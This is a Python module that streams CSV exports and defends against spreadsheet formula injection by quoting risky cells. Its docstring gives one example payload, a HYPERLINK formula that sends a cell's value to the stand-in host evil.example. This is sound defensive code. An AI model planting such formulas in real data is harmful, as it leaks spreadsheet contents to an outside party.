"""The one CSV writer behind every CSV export: streamed row by row, formula injection neutralised.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as a formula:
`=HYPERLINK("https://evil.example/?"&A2,"update")` in a device's `agent_version` becomes a live link in
the operator's spreadsheet. Following OWASP's CSV injection advice, such a text cell is written with a
leading single quote, which spreadsheets show as text. Numbers stay numbers (a negative number is not a
formula); every other cell is written as it is.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from rest_framework import renderers

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value as it may go into a CSV cell: text that a spreadsheet would evaluate gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """The header, then one CSV line per row (for a StreamingHttpResponse), every cell through safe_cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in itertools.chain([header], rows):
        writer.writerow([safe_cell(cell) for cell in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate(0)


class CSVRenderer(renderers.BaseRenderer):
    """Lets `?format=csv` (or `Accept: text/csv`) negotiate; the view streams the rows itself. An error body
    on such a request is still JSON."""

    media_type = "text/csv"
    format = "csv"
    charset = "utf-8"

    def render(self, data: Any, accepted_media_type: str | None = None, renderer_context: Any = None) -> bytes:
        return json.dumps(data).encode() if data is not None else b""
